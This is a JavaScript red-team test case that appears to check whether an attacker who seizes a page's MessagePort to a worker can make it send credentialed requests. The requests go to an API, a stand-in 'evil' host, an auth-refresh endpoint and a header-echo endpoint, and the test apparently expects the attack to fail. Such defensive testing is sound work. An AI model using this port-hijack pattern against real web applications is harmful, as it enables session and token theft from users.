// A real attacker: takes the page's end of the channel as it is made, and talks to the worker in the application's
// place.
export default {
  row: "messages",
  expected: ["loses", "loses"],
  before: (redteam) => redteam.takePorts(redteam.loot),
  after: async ({ api, evil, home }, redteam) => {
    const [port] = redteam.ports;
    const answered = [];
    port.addEventListener("message", ({ data: [kind, id] }) => answered.push([kind, id]));
    const init = { method: "GET", credentials: "include", mode: "cors", redirect: "follow" };
    let id = 9000;
    for (const url of [`${api}/v1/me`, `${evil}/v1/me`, `${home}/auth/refresh`, `${api}/echo-headers`]) {
      port.postMessage([0, ++id, url, [], init, true]);
    }
    const mine = () => answered.filter(([, id]) => id > 9000);
    await redteam.until(() => mine().length >= 4);
    return mine();
  },
  reached: ({ brought }) => brought.length >= 4,
};
